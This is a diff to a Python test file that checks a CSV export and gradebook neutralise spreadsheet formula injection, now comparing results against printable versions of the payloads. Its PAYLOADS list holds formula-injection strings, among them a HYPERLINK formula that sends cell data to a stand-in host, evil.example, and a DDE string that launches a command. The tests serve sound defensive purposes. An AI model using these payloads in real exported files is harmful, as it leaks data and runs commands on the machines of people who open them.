@@ -15,6 +15,7 @@ from trainer.loader import load_paths
 from trainer.progress.store import open_store
 from trainer.scoring import score
 from trainer.spreadsheet import FORMULA_STARTS, SafeCsvWriter, neutralise
+from trainer.terminal import printable
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "\uff1d1+1"]
@@ -47,7 +48,7 @@ def test_export_csv_neutralises_response_client_session_and_scenario(scenario_di
     assert len(rows) == len(PAYLOADS)
     for row in rows:
         for column in ("scenario", "client", "response", "session"):
-            assert row[column].startswith("'") and row[column][1:] in PAYLOADS
+            assert row[column].startswith("'") and row[column][1:] in map(printable, PAYLOADS)  # on stdout
 
 
 def test_the_gradebook_neutralises_a_student_name(tmp_path):
